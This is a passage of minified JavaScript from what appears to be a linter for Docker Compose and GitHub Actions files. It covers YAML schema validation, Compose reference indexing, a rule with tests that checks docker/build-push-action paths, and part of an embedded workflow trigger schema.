e;try{e=new RegExp(n,"u")}catch{e=void 0}Pp.set(n,e)}return Pp.get(n)}function qe(n){return/\$(?:\{|[A-Za-z_])/.test(n.replace(/\$\$/g,""))}function Cw(n){return(0,pe.isScalar)(n)&&(typeof n.value=="symbol"||n.value==="<<"&&n.type==="PLAIN")}function et(n){let e=n.key;if(!(!(0,pe.isScalar)(e)||Cw(e)))return e.value===null?"":String(e.value)}function W(n,e){let t=e;for(let s=0;(0,pe.isAlias)(t)&&s<20;s++)t=g$(n,t);if(!(0,pe.isAlias)(t))return t??void 0}var Sw=new WeakMap;function m$(n){let e=Sw.get(n);if(e)return e;let t=new Map,s=(i,r)=>{if(!i||r>200||(0,pe.isAlias)(i))return;let o=i.anchor;if(o){let a=t.get(o)??[];a.push(i),t.set(o,a)}if((0,pe.isMap)(i))for(let a of i.items)s(a.key,r+1),s(a.value,r+1);else if((0,pe.isSeq)(i))for(let a of i.items)s(a,r+1)};return s(n.contents,0),Sw.set(n,e=t),e}function g$(n,e){let t=m$(n).get(e.source);if(!t)return;let s=e.range?.[0]??1/0,i=0,r=t.length;for(;i<r;){let o=i+r>>1;(t[o].range?.[0]??0)<s?i=o+1:r=o}return i>0?t[i-1]:void 0}var Mw=new WeakMap;function lt(n,e,t=0){let s=Mw.get(e);return s||Mw.set(e,s=[]),s[t]??=y$(n,e,t)}function y$(n,e,t){let s=[],i=[];for(let a of e.items){if(!Cw(a.key)){s.push(a);continue}if(t>10)continue;let c=W(n,a.value),l=(0,pe.isSeq)(c)?c.items.map(u=>W(n,u)):[c];for(let u of l)if((0,pe.isMap)(u))for(let p of lt(n,u,t+1))i.push(p)}if(i.length===0)return s;let r=new Set(s.map(et)),o=[...s];for(let a of i){let c=et(a);r.has(c)||(r.add(c),o.push(a))}return o}function be(n,e,t){let s=W(n,e);if((0,pe.isMap)(s))return lt(n,s).find(i=>et(i)===t)}function b$(n){if((0,pe.isMap)(n))return"object";if((0,pe.isSeq)(n))return"array";if((0,pe.isScalar)(n)){let e=n.value;return e==null?"null":typeof e=="boolean"?"boolean":typeof e=="number"||typeof e=="bigint"?Number.isInteger(Number(e))?"integer":"number":"string"}return"unknown"}var Dw={object:"a mapping",array:"a list",string:"a string",number:"a number",integer:"an integer",boolean:"a boolean",null:"empty"};function w$(n){let e=[...new Set(n.map(t=>Dw[t]??t))];return e.length<=1?e[0]??"something else":`${e.slice(0,-1).join(", ")} or ${e[e.length-1]}`}var v$=new Set(["interval","timeout","start_period","start_interval","stop_grace_period","delay","window","monitor"]);function Dn(n){return n.length?jp(n):"the top level"}function Nt(n,e){return n.model.rangeOf(e)}function Fa(n,e,t,s,i){if(!t||n.depth>60)return;let r=W(n.model.doc,e);if(!r||r.tag==="!reset")return;let o=Ew(t);if(o.length===0)return;let a=b$(r),c=(0,pe.isScalar)(r)&&typeof r.value=="string"&&qe(r.value),l=["string","number","integer","boolean","null"],u=f=>c?l.some(h=>Ow(f,h)):Ow(f,a),p=o.filter(u);if(p.length===0){let f=o.flatMap(v=>_w(v)??[]),h=c?"an interpolated string":Dw[a]??a,m=[],g=s[s.length-1],w=typeof g=="string"&&v$.has(g);if((0,pe.isScalar)(r)&&(a==="number"||a==="integer"||a==="boolean")&&f.includes("string")&&r.source!==void 0&&!w){let v=Nt(n,r);m.push({title:`Quote the value: "${r.source}"`,preferred:!0,edits:[{range:v,newText:JSON.stringify(String(r.source))}]})}n.issues.push({kind:"invalid-value",message:`${Dn(s)} must be ${w$(f)}, not ${h}`,range:Nt(n,r),fixes:m.length?m:void 0});return}let d=p[0];if(p.length>1){let f;for(let h of p){let m={model:n.model,issues:[],depth:n.depth+1};if(Aw(m,r,h,s,c,i),(!f||m.issues.length<f.length)&&(f=m.issues,d=h),f.length===0)break}n.issues.push(...f);return}n.depth++,Aw(n,r,d,s,c,i),n.depth--}function Aw(n,e,t,s,i,r){if(t.allOf)for(let a of t.allOf)Fa(n,e,a,s,r);if((0,pe.isMap)(e))return k$(n,e,t,s,r);if((0,pe.isSeq)(e))return R$(n,e,t,s);if(!(0,pe.isScalar)(e)||i)return;let o=e.value;if(t.enum&&!t.enum.some(a=>a===o)){let a=t.enum.map(String),c=typeof o=="string"?ae(o,a):void 0,l=Nt(n,e);n.issues.push({kind:"invalid-value",message:`${Dn(s)} must be one of ${a.map(u=>`"${u}"`).join(", ")}, not "${String(o)}"`+(c?`. Did you mean "${c}"?`:""),range:l,fixes:c?[{title:`Change to "${c}"`,preferred:!0,edits:[{range:l,newText:c}]}]:void 0})}if(t.pattern&&typeof o=="string"){let a=$w(t.pattern);a&&!a.test(o)&&n.issues.push({kind:"invalid-value",message:`${Dn(s)} "${o}" does not match ${t.pattern}`,range:Nt(n,e)})}typeof o=="number"&&(t.minimum!==void 0&&o<t.minimum&&n.issues.push({kind:"invalid-value",message:`${Dn(s)} must be at least ${t.minimum}, not ${o}`,range:Nt(n,e)}),t.maximum!==void 0&&o>t.maximum&&n.issues.push({kind:"invalid-value",message:`${Dn(s)} must be at most ${t.maximum}, not ${o}`,range:Nt(n,e)}))}function k$(n,e,t,s,i){let r=lt(n.model.doc,e),o=new Set,a=Object.keys(t.properties??{});for(let c of r){let l=et(c);if(l===void 0||(o.add(l),c.value?.tag==="!reset"))continue;let u;t.properties&&Object.prototype.hasOwnProperty.call(t.properties,l)&&(u=t.properties[l]);let p=!1;if(!u){for(let[d,f]of Object.entries(t.patternProperties??{}))if($w(d)?.test(l)){u=f,p=!0;break}}if(!u&&!p){if(t.additionalProperties===!1){if(qe(l))continue;let d=Nt(n,c.key),f=Object.keys(t.patternProperties??{}).filter(h=>h!=="^x-");if(a.length===0&&f.length>0)n.issues.push({kind:"invalid-value",message:`"${l}" is not a valid name in ${Dn(s)}: it must match ${f[0]}`,range:d});else{let h=ae(l,a);n.issues.push({kind:"unknown-key",message:`additional property "${l}" is not allowed ${s.length?`in ${jp(s)}`:"at the top level"}`+(h?`. Did you mean "${h}"?`:""),range:d,fixes:h?[{title:`Change to "${h}"`,preferred:!0,edits:[{range:d,newText:h}]}]:void 0})}continue}typeof t.additionalProperties=="object"&&(u=t.additionalProperties)}u&&Fa(n,c.value,u,[...s,l],c.key)}for(let c of t.required??[]){if(o.has(c))continue;let l=i?Nt(n,i):x$(n,e);n.issues.push({kind:"missing-key",message:`${Dn(s)} is missing the required key "${c}"`,range:l})}}function x$(n,e){let t=Nt(n,e);return t.end.line===t.start.line?t:{start:t.start,end:{line:t.start.line,character:n.model.lines.lineText(t.start.line).length}}}function R$(n,e,t,s){let i=new Map;e.items.forEach((r,o)=>{if(t.items&&Fa(n,r,t.items,[...s,o]),!t.uniqueItems)return;let a=W(n.model.doc,r);if(!a||(0,pe.isScalar)(a)&&typeof a.value=="string"&&qe(a.value))return;let c;try{c=JSON.stringify(a.toJSON?.()??a.value)}catch{return}let l=i.get(c);if(l===void 0){i.set(c,o);return}let u=Nt(n,a),p=O$(n.model,r);n.issues.push({kind:"invalid-value",message:`${jp(s)} has a duplicate entry ${(0,pe.isScalar)(a)?`"${String(a.value)}"`:""} (same as item ${l+1})`.replace("  "," "),range:u,fixes:p})})}function O$(n,e){let t=n.rangeOf(e),s=n.lines.lineText(t.start.line);if(!/^\s*-\s/.test(s.slice(0,t.start.character))&&!/^\s*-\s*$/.test(s.slice(0,t.start.character)))return;let i=n.lines.lineText(t.end.line).slice(t.end.character);if(!(i.trim()&&!i.trim().startsWith("#")))return[{title:"Remove the duplicate entry",preferred:!0,edits:[{range:{start:{line:t.start.line,character:0},end:{line:t.end.line+1,character:0}},newText:""}]}]}function Ms(n){return n.memoize("compose-schema",()=>{let e=n.doc.contents;if(!e)return[];if((0,pe.isScalar)(e)&&(e.value===null||e.value===""))return[];let t={model:n,issues:[],depth:0};Fa(t,e,Nw,[]);let s=new Set;return t.issues.filter(i=>{let r=`${i.kind}|${i.range.start.line}:${i.range.start.character}`;return s.has(r)?!1:(s.add(r),!0)})})}var La={service:"services",network:"networks",volume:"volumes",secret:"secrets",config:"configs",model:"models"};function S$(n,e){let t=new Map,s=n.root;if(!s)return t;let i=be(n.doc,s,e),r=W(n.doc,i?.value);if(!(0,se.isMap)(r))return t;for(let o of lt(n.doc,r)){let a=et(o);a===void 0||t.has(a)||t.set(a,{name:a,pair:o,keyRange:n.keyRange(o)})}return t}function Ta(n,e,t,s){let i=e.range;if(!i)return n.rangeOf(e);let r=n.text.slice(i[0],i[1]),o=String(e.value),a=r.indexOf(o),c=i[0]+(a>=0?a:0)+t;return n.lines.range(c,c+s)}function Up(n,e){let t=W(n,e);return(0,se.isScalar)(t)&&typeof t.value=="string"?[t]:(0,se.isSeq)(t)?t.items.map(s=>W(n,s)).filter(s=>(0,se.isScalar)(s)&&typeof s.value=="string"):[]}function qp(n,e){let t=W(n.doc,e);return(0,se.isMap)(t)?lt(n.doc,t).map(s=>({name:et(s),range:n.keyRange(s)})).filter(s=>s.name!==void 0):Up(n.doc,t).map(s=>({name:String(s.value),range:n.rangeOf(s)}))}var M$=/^[a-zA-Z0-9][a-zA-Z0-9_.-]*$/;function A$(n){if(/^[A-Za-z]:[\\/]/.test(n))return;let e=n.indexOf(":");if(e<=0)return;let t=n.slice(0,e);return M$.test(t)?t:void 0}function ut(n){return n.memoize("compose-index",()=>{let e={};for(let[o,a]of Object.entries(La))e[o]=S$(n,a);let t=[],s=new Set,i=o=>{let a=`${o.kind}|${o.range.start.line}:${o.range.start.character}`;s.has(a)||qe(o.name)||(s.add(a),t.push(o))},r=n.doc;for(let[o,a]of e.service){let c=W(r,a.pair.value);if((0,se.isMap)(c))for(let l of lt(r,c)){let u=et(l),p=l.value;switch(u){case"depends_on":for(let d of qp(n,p))i({kind:"service",from:o,via:u,...d});break;case"links":for(let d of Up(r,p)){let f=String(d.value).split(":")[0];i({kind:"service",from:o,via:u,name:f,range:Ta(n,d,0,f.length)})}break;case"extends":{let d=W(r,p);if((0,se.isScalar)(d)&&typeof d.value=="string")i({kind:"service",from:o,via:u,name:d.value,range:n.rangeOf(d)});else if((0,se.isMap)(d)&&!be(r,d,"file")){let f=W(r,be(r,d,"service")?.value);(0,se.isScalar)(f)&&typeof f.value=="string"&&i({kind:"service",from:o,via:u,name:f.value,range:n.rangeOf(f)})}break}case"network_mode":case"pid":case"ipc":{let d=W(r,p);if((0,se.isScalar)(d)&&typeof d.value=="string"&&d.value.startsWith("service:")){let f=d.value.slice(8);f&&i({kind:"service",from:o,via:u,name:f,range:Ta(n,d,8,f.length)})}break}case"volumes_from":for(let d of Up(r,p)){let f=String(d.value);if(f.startsWith("container:"))continue;let h=f.replace(/:(ro|rw)$/,"");i({kind:"service",from:o,via:u,name:h,range:Ta(n,d,0,h.length)})}break;case"networks":for(let d of qp(n,p))d.name!=="default"&&i({kind:"network",from:o,via:u,...d});break;case"models":for(let d of qp(n,p))i({kind:"model",from:o,via:u,...d});break;case"volumes":{let d=W(r,p);if(!(0,se.isSeq)(d))break;for(let f of d.items){let h=W(r,f);if((0,se.isScalar)(h)&&typeof h.value=="string"){let m=A$(h.value);m&&i({kind:"volume",from:o,via:u,name:m,range:Ta(n,h,0,m.length)})}else if((0,se.isMap)(h)){let m=W(r,be(r,h,"type")?.value),g=W(r,be(r,h,"source")?.value);(0,se.isScalar)(m)&&m.value==="volume"&&(0,se.isScalar)(g)&&typeof g.value=="string"&&g.value&&i({kind:"volume",from:o,via:u,name:g.value,range:n.rangeOf(g)})}}break}case"secrets":case"configs":{let d=u==="secrets"?"secret":"config",f=W(r,p);if(!(0,se.isSeq)(f))break;for(let h of f.items){let m=W(r,h);if((0,se.isScalar)(m)&&typeof m.value=="string")i({kind:d,from:o,via:u,name:m.value,range:n.rangeOf(m)});else if((0,se.isMap)(m)){let g=W(r,be(r,m,"source")?.value);(0,se.isScalar)(g)&&typeof g.value=="string"&&i({kind:d,from:o,via:u,name:g.value,range:n.rangeOf(g)})}}break}case"build":{let d=W(r,p);if(!(0,se.isMap)(d))break;let f=W(r,be(r,d,"secrets")?.value);if(!(0,se.isSeq)(f))break;for(let h of f.items){let m=W(r,h),g=(0,se.isMap)(m)?W(r,be(r,m,"source")?.value):m;(0,se.isScalar)(g)&&typeof g.value=="string"&&i({kind:"secret",from:o,via:"build.secrets",name:g.value,range:n.rangeOf(g)})}break}}}}return{defs:e,refs:t}})}function Tw(){return{service:new Set,network:new Set,volume:new Set,secret:new Set,config:new Set,model:new Set}}var N$=["compose.yaml","compose.yml","docker-compose.yaml","docker-compose.yml"];function E$(n){return/^(docker-)?compose\..+\.ya?ml$/i.test(an.basename(n))}var Ia=1e4;function _$(n){return n instanceof ReferenceError&&/excessive alias count/i.test(n.message)}var Fn=new Map,$$=64,Fw;function C$(n,e){Fw??=require("node:crypto");let t=`${n}\0${Fw.createHash("sha1").update(e).digest("base64")}`,s=Fn.get(t);if(s)return Fn.delete(t),Fn.set(t,s),s;let i;try{let o=(0,se.parseDocument)(e,{strict:!1,uniqueKeys:!1,merge:!0}).toJS({maxAliasCount:Ia}),a=Tw();if(o&&typeof o=="object")for(let[c,l]of Object.entries(La)){let u=o[l];if(u&&typeof u=="object"&&!Array.isArray(u))for(let p of Object.keys(u))a[c].add(p)}i={names:a}}catch(r){if(!_$(r))throw r;i={tooComplex:!0}}return Fn.set(t,i),Fn.size>$$&&Fn.delete(Fn.keys().next().value),i}function As(n,e,t){return n.memoize(`compose-external:${e??""}`,()=>{let s=Tw(),i=[],r=!0,o=e?an.dirname(e):void 0,a=(u,p)=>{if(!o||qe(u))return!1;let d=an.resolve(o,u),f=t.readFile(d);if(f===void 0)return!1;let h;try{h=C$(d,f)}catch{return!1}if("tooComplex"in h)return i.push({file:u,range:p}),!1;for(let m of Object.keys(s))for(let g of h.names[m])s[m].add(g);return!0},c=n.root,l=W(n.doc,c?be(n.doc,c,"include")?.value:void 0);if(l){let u=(0,se.isSeq)(l)?l.items.map(p=>W(n.doc,p)):[l];for(let p of u){let d=[];if((0,se.isScalar)(p))d.push(p);else if((0,se.isMap)(p)){let f=W(n.doc,be(n.doc,p,"path")?.value);(0,se.isSeq)(f)?d.push(...f.items.map(h=>W(n.doc,h)).filter(Boolean)):f&&d.push(f)}d.length===0&&(r=!1);for(let f of d)(0,se.isScalar)(f)&&typeof f.value=="string"&&a(f.value,n.rangeOf(f))||(r=!1)}}if(e&&E$(e)){let u=N$.find(d=>o&&t.exists(an.join(o,d))),p={start:{line:0,character:0},end:{line:0,character:n.lines.lineText(0).length}};(!u||!a(u,p))&&(r=!1)}return{complete:r,names:s,tooComplex:i}})}function Hp(n){return/^(https?:\/\/|git@|git:\/\/|ssh:\/\/|github\.com\/)/i.test(n)||/\.git(#.*)?$/.test(n)||n.includes(".git#")}function Hi(n){return(0,Ln.isScalar)(n)&&typeof n.value=="string"?n:void 0}function Pa(n,e){return n.memoize(`compose-builds:${e??""}`,()=>{let t=[],s=n.doc,i=e?Tn.dirname(e):void 0;for(let[r,o]of ut(n).defs.service){let a=W(s,o.pair.value);if(!(0,Ln.isMap)(a))continue;let c=be(s,a,"build");if(!c||!(0,Ln.isScalar)(c.key))continue;let l=W(s,c.value),u,p,d,f;if((0,Ln.isScalar)(l))u=Hi(l);else if((0,Ln.isMap)(l))u=Hi(W(s,be(s,l,"context")?.value)),p=Hi(W(s,be(s,l,"dockerfile")?.value)),d=Hi(W(s,be(s,l,"dockerfile_inline")?.value))?.value,f=Hi(W(s,be(s,l,"target")?.value))?.value;else continue;let h=u?.value??".",m=O=>!qe(O)&&!O.startsWith("~"),g;i&&m(h)&&!Hp(h)&&(g=Tn.resolve(i,h));let w,v=p?.value;g&&d===void 0&&(v===void 0?w=Tn.join(g,"Dockerfile"):m(v)&&(w=Tn.resolve(g,v))),t.push({service:r,contextNode:u,context:h,contextAbs:g,dockerfileNode:p,dockerfileAbs:w,dockerfileGiven:v!==void 0,inline:d,target:f&&m(f)?f:void 0,buildKey:c.key})}return t})}function Lw(n,e){let t=new ns(n),s=e?t.findStage(e):t.stages[t.stages.length-1];if(!s)return;let i=[];for(let r=0;s&&r<50;r++){for(let c of s.instructions)if(c.keyword==="EXPOSE")for(let l of c.args){let u=l.getValue();if(u.includes("$"))return;let p=/^(\d+)(?:-(\d+))?(?:\/(\w+))?$/.exec(u);p&&i.push({from:Number(p[1]),to:Number(p[2]??p[1]),protocol:(p[3]??"tcp").toLowerCase()})}let o=s.imageName,a=o?t.findStage(o):void 0;s=a&&a.index<s.index?a:void 0}return i.length?i:void 0}function Iw(n,e){return n.inline!==void 0?n.inline:n.dockerfileAbs?e.readFile(n.dockerfileAbs):void 0}function ja(n,e){for(let t of n.with?.items??[])if(P(t.key)===e&&F(t.value)&&typeof t.value.value=="string")return t.value}var Pw=n=>!!n.uses&&!!n.usesNode&&/^docker\/build-push-action@/i.test(n.uses.trim());function jw(n){return xe(n).some(({step:e})=>Pw(e))}function qw(n,e){let t=[];for(let{job:s,step:i}of xe(n)){if(!Pw(i))continue;let r=ja(i,"context"),o=ja(i,"file"),a=r?.value,c=o?.value,l=f=>f.includes("${{")||f.includes("{{")||f.includes("$"),u;a!==void 0&&!l(a)&&!Hp(a)&&!a.includes("://")&&(u=Ns.posix.join(e,a));let p;c!==void 0?l(c)||(p=Ns.posix.join(e,c)):a===void 0?p=Ns.posix.join(e,"Dockerfile"):u&&(p=Ns.posix.join(u,"Dockerfile"));let d=!1;for(let f of s?.steps??[]){if(f.index>=i.index)break;let h=f.uses?.trim()??"";/^actions\/checkout@/i.test(h)&&(ja(f,"path")||ja(f,"repository"))&&(d=!0);let m=f.run??"",g=[c,a,"Dockerfile"].filter(w=>!!w&&w!=="."&&w!=="./");m&&g.some(w=>m.includes(Ns.posix.basename(w)))&&(d=!0)}t.push({contextNode:r,fileNode:o,contextAbs:u,fileAbs:p,fileGiven:c!==void 0,usesNode:i.usesNode,uncertain:d})}return t}var D$={id:"docker-build-path",language:"workflow",severity:"error",docs:{summary:"The `context` and `file` of a `docker/build-push-action` step must exist in the repository (paths are relative to the repository root).",why:'The job fails only after checkout and setup with "unable to prepare context" or "failed to read dockerfile" when a Dockerfile is moved or renamed; this catches it in the editor.',bad:`on: push
jobs:
  image:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@v4
      - uses: docker/build-push-action@v6
        with:
          context: ./app
          file: ./app/Dockerfile.prod
`,good:`on: push
jobs:
  image:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@v4
      - uses: docker/build-push-action@v6
        with:
          context: ./app
          file: ./app/Dockerfile
`,files:{"app/Dockerfile":`FROM alpine
`}},check({model:n,files:e,path:t,report:s}){if(n.kind!=="workflow"||!jw(n))return;let i=yt(t,e);if(!i||!e.exists(Yp.posix.join(i,".github")))return;let r=o=>Yp.posix.relative(i,o)||".";for(let o of qw(n,i))if(!o.uncertain){if(o.contextAbs&&!e.exists(o.contextAbs)){s({message:`docker/build-push-action: context "${o.contextNode.value}" does not exist in the repository (${r(o.contextAbs)})`,range:n.rangeOf(o.contextNode)});continue}o.fileAbs&&!e.exists(o.fileAbs)&&s({message:o.fileGiven?`docker/build-push-action: file "${o.fileNode.value}" does not exist in the repository (${r(o.fileAbs)})`:`docker/build-push-action: there is no ${r(o.fileAbs)} (the default file); set "file:" to the Dockerfile`,range:n.rangeOf(o.fileNode??o.contextNode??o.usesNode)})}},tests:[{name:"missing context, file and default Dockerfile",input:`on: push
jobs:
  a:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@v4
      - uses: docker/build-push-action@v6
        with:
          context: ./api
      - uses: docker/build-push-action@v6
        with:
          context: web
          file: web/Dockerfile.prod
      - uses: docker/build-push-action@v6
        with:
          context: web
      - uses: docker/build-push-action@v6
`,files:{"web/index.html":""},expect:[{line:9,col:20,message:'context "./api" does not exist in the repository (api)'},{line:13,col:17,message:'file "web/Dockerfile.prod" does not exist in the repository'},{line:16,col:20,message:"there is no web/Dockerfile"},{line:17,col:15,message:"there is no Dockerfile"}]},{name:"existing paths, expressions, generated files, checkout elsewhere",input:`on: push
jobs:
  a:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@v4
      - uses: docker/build-push-action@v6
        with:
          context: .
          file: docker/app.Dockerfile
      - uses: docker/build-push-action@v6
        with:
          context: \${{ matrix.dir }}
      - uses: docker/build-push-action@v6
        with:
          context: "{{defaultContext}}:sub"
      - uses: docker/build-push-action@v6
        with:
          file: ./Dockerfile
  b:
    runs-on: ubuntu-latest
    steps:
      - run: echo "FROM alpine" > gen.Dockerfile
      - uses: docker/build-push-action@v6
        with:
          file: gen.Dockerfile
  c:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@v4
        with:
          path: src
      - uses: docker/build-push-action@v6
        with:
          context: src/app
`,files:{"docker/app.Dockerfile":`FROM alpine
`,Dockerfile:`FROM alpine
`},expect:[]}]},Uw=D$;var Hw={source:"@actions/workflow-parser@0.3.61 dist/workflow-v1.0.min.json (MIT)",version:"workflow-v1.0",definitions:{"workflow-root":{description:"A workflow file.",mapping:{properties:{on:"on",name:"workflow-name",description:"workflow-description","run-name":"run-name",defaults:"workflow-defaults",env:"workflow-env",permissions:"permissions",concurrency:"workflow-concurrency",jobs:{type:"jobs",required:!0}}}},"workflow-root-strict":{description:"Workflow file with strict validation",mapping:{properties:{on:{type:"on-strict",required:!0},name:"workflow-name",description:"workflow-description","run-name":"run-name",defaults:"workflow-defaults",env:"workflow-env",permissions:"permissions",concurrency:"workflow-concurrency",jobs:{type:"jobs",required:!0}}}},"workflow-name":{description:`The name of the workflow that GitHub displays on your repository's 'Actions' tab.

[Documentation](https://docs.github.com/actions/using-workflows/workflow-syntax-for-github-actions#name)`,string:{}},"workflow-description":{description:"A description for your workflow or reusable workflow",string:{}},"run-name":{context:["github","inputs","vars"],string:{},description:`The name for workflow runs generated from the workflow. GitHub displays the workflow run name in the list of workflow runs on your repository's 'Actions' tab.

[Documentation](https://docs.github.com/actions/using-workflows/workflow-syntax-for-github-actions#run-name)`},on:{description:`The GitHub event that triggers the workflow. Events can be a single string, array of events, array of event types, or an event configuration map that schedules a workflow or restricts the execution of a workflow to specific files, tags, or branch changes. View a full list of [events that trigger workflows](https://docs.github.com/actions/using-workflows/events-that-trigger-workflows).

[Documentation](https://docs.github.com/actions/using-workflows/workflow-syntax-for-github-actions#on)`,"one-of":["string","sequence","on-mapping"]},"on-mapping":{mapping:{properties:{workflow_call:"workflow-call"},"loose-key-type":"non-empty-string","loose-value-type":"any"}},"on-strict":{description:`The GitHub event that triggers the workflow.  Events can be a single string, array of events, array of event types, or an event configuration map that schedules a workflow or restricts the execution of a workflow to specific files, tags, or branch changes. View a full list of [events that trigger workflows](https://docs.github.com/actions/using-workflows/events-that-trigger-workflows).

[Documentation](https://docs.github.com/actions/using-workflows/workflow-syntax-for-github-actions#on)`,"one-of":["on-string-strict","on-sequence-strict","on-mapping-strict"]},"on-mapping-strict":{description:`The GitHub event that triggers the workflow.  Events can be a single string, array of events, array of event types, or an event configuration map that schedules a workflow or restricts the execution of a workflow to specific files, tags, or branch changes. View a full list of [events that trigger workflows](https://docs.github.com/actions/using-workflows/events-that-trigger-workflows).

[Documentation](https://docs.github.com/actions/using-workflows/workflow-syntax-for-github-actions#on)`,mapping:{properties:{branch_protection_rule:"branch-protection-rule",check_run:"check-run",check_suite:"check-suite",create:"create",delete:"delete",deployment:"deployment",deployment_status:"deployment-status",discussion:"discussion",discussion_comment:"discussion-comment",fork:"fork",gollum:"gollum",image_version:"image-version",issue_comment:"issue-comment",issues:"issues",label:"label",merge_group:"merge-group",milestone:"milestone",page_build:"page-build",project:"project",project_card:"project-card",project_column:"project-column",public:"public",pull_request:"pull-request",pull_request_comment:"pull-request-comment",pull_request_review:"pull-request-review",pull_request_review_comment:"pull-request-review-comment",pull_request_target:"pull-request-target",push:"push",registry_package:"registry-package",release:"release",repository_dispatch:"repository-dispatch",schedule:"schedule",status:"status",watch:"watch",workflow_call:"workflow-call",workflow_dispatch:"workflow-dispatch",workflow_run:"workflow-run"}}},"on-string-strict":{"one-of":["branch-protection-rule-string","check-run-string","check-suite-string","create-string","delete-string","deployment-string","deployment-status-string","discussion-string","discussion-comment-string","fork-string","gollum-string","image-version-string","issue-comment-string","issues-string","label-string","merge-group-string","milestone-string","page-build-string","project-string","project-card-string","project-column-string","public-string","pull-request-string","pull-request-comment-string","pull-request-review-string","pull-request-review-comment-string","pull-request-target-string","push-string","registry-package-string","release-string","repository-dispatch-string","schedule-string","status-string","watch-string","workflow-call-string","workflow-dispatch-string","workflow-run-string"]},"on-sequence-strict":{sequence:{"item-type":"on-string-strict"}},"branch-protection-rule-string":{description:"Runs your workflow when branch protection rules in the workflow repository are changed.",string:{constant:"branch_protection_rule"}},"branch-protection-rule":{description:"Runs your workflow when branch protection rules in the workflow repository are changed.","one-of":["null","branch-protection-rule-mapping"]},"branch-protection-rule-mapping":{mapping:{properties:{types:"branch-protection-rule-activity"}}},"branch-protection-rule-activity":{description:"The types of branch protection rule activity that trigger the workflow. Supported activity types: `created`, `edited`, `deleted`.","one-of":["branch-protection-rule-activity-type","branch-protection-rule-activity-types"]},"branch-protection-rule-activity-types":{sequence:{"item-type":"branch-protection-rule-activity-type"}},"branch-protection-rule-activity-type":{"allowed-values":["created","edited","deleted"]},"check-run-string":{description:"Runs your workflow when activity related to a check run occurs. A check run is an individual test that is part of a check suite.",string:{constant:"check_run"}},"check-run":{description:"Runs your workflow when activity related to a check run occurs. A check run is an individual test that is part of a check suite.","one-of":["null","check-run-mapping"]},"check-run-mapping":{mapping:{properties:{types:"check-run-activity"}}},"check-run-activity":{description:"The types of check run activity that trigger the workflow. Supported activity types: `created`, `rerequested`, `completed`, `requested_action`.","one-of":["check-run-activity-type","check-run-activity-types"]},"check-run-activity-types":{sequence:{"item-type":"check-run-activity-type"}},"check-run-activity-type":{"allowed-values":["completed","created","rerequested","requested_action"]},"check-suite-string":{description:"Runs your workflow when check suite activity occurs. A check suite is a collection of the check runs created for a specific commit. Check suites summarize the status and conclusion of the check runs that are in the suite.",string:{constant:"check_suite"}},"check-suite":{description:"Runs your workflow when check suite activity occurs. A check suite is a collection of the check runs created for a specific commit. Check suites summarize the status and conclusion of the check runs that are in the suite.","one-of":["null","check-suite-mapping"]},"check-suite-mapping":{mapping:{properties:{types:"check-suite-activity"}}},"check-suite-activity":{description:"The types of check suite activity that trigger the workflow. Supported activity types: `completed`.","one-of":["check-suite-activity-type","check-suite-activity-types"]},"check-suite-activity-types":{sequence:{"item-type":"check-suite-activity-type"}},"check-suite-activity-type":{"allowed-values":["completed"]},"create-string":{description:"Runs your workflow when someone creates a Git reference (Git branch or tag) in the workflow's repository.",string:{constant:"create"}},create:{description:"Runs your workflow when someone creates a Git reference (Git branch or tag) in the workflow's repository.",null:{}},"delete-string":{description:"Runs your workflow when someone deletes a Git reference (Git branch or tag) in the workflow's repository.",string:{constant:"delete"}},delete:{description:"Runs your workflow when someone deletes a Git reference (Git branch or tag) in the workflow's repository.",null:{}},"deployment-string":{description:"Runs your workflow when someone creates a deployment in the workflow's repository. Deployments created with a commit SHA may not have a Git ref.",string:{constant:"deployment"}},deployment:{description:"Runs your workflow when someone creates a deployment in the workflow's repository. Deployments created with a commit SHA may not have a Git ref.",null:{}},"deployment-status-string":{description:"Runs your workflow when a third party provides a deployment status. Deployments created with a commit SHA may not have a Git ref.",string:{constant:"deployment_status"}},"deployment-status":{description:"Runs your workflow when a third party provides a deployment status. Deployments created with a commit SHA may not have a Git ref.",null:{}},"discussion-string":{description:"Runs your workflow when a discussion in the workflow's repository is created or modified. For activity related to comments on a discussion, use the `discussion_comment` event.",string:{constant:"discussion"}},discussion:{description:"Runs your workflow when a discussion in the workflow's repository is created or modified. For activity related to comments on a discussion, use the `discussion_comment` event.","one-of":["null","discussion-mapping"]},"discussion-mapping":{mapping:{properties:{types:"discussion-activity"}}},"discussion-activity":{description:"The types of discussion activity that trigger the workflow. Supported activity types: `created`, `edited`, `deleted`, `transferred`, `pinned`, `unpinned`, `labeled`, `unlabeled`, `locked`, `unlocked`, `category_changed`, `answered`, `unanswered`.","one-of":["discussion-activity-type","discussion-activity-types"]},"discussion-activity-types":{sequence:{"item-type":"discussion-activity-type"}},"discussion-activity-type":{"allowed-values":["created","edited","deleted","transferred","pinned","unpinned","labeled","unlabeled","locked","unlocked","category_changed","answered","unanswered"]},"discussion-comment-string":{description:"Runs your workflow when a comment on a discussion in the workflow's repository is created or modified. For activity related to a discussion as opposed to comments on the discussion, use the `discussion` event.",string:{constant:"discussion_comment"}},"discussion-comment":{description:"Runs your workflow when a comment on a discussion in the workflow's repository is created or modified. For activity related to a discussion as opposed to comments on the discussion, use the `discussion` event.","one-of":["null","discussion-comment-mapping"]},"discussion-comment-mapping":{mapping:{properties:{types:"discussion-comment-activity"}}},"discussion-comment-activity":{description:"The types of discussion comment activity that trigger the workflow. Supported activity types: `created`, `edited`, `deleted`.","one-of":["discussion-comment-activity-type","discussion-comment-activity-types"]},"discussion-comment-activity-types":{sequence:{"item-type":"discussion-comment-activity-type"}},"discussion-comment-activity-type":{"allowed-values":["created","edited","deleted"]},"fork-string":{description:"Runs your workflow when someone forks a repository.",string:{constant:"fork"}},fork:{description:"Runs your workflow when someone forks a repository.",null:{}},"gollum-string":{description:"Runs your workflow when someone creates or updates a Wiki page.",string:{constant:"gollum"}},gollum:{description:"Runs your workflow when someone creates or updates a Wiki page.",null:{}},"image-version-string":{description:"Runs your workflow when an image version is created or changes state.",string:{constant:"image_version"}},"image-version":{description:"Runs your workflow when an image version is created or changes state.","one-of":["null","image-version-mapping"]},"image-version-mapping":{mapping:{properties:{types:"image-version-activity",names:"event-names",versions:"event-versions"}}},"image-version-activity":{description:"The types of image version activity that trigger the workflow. 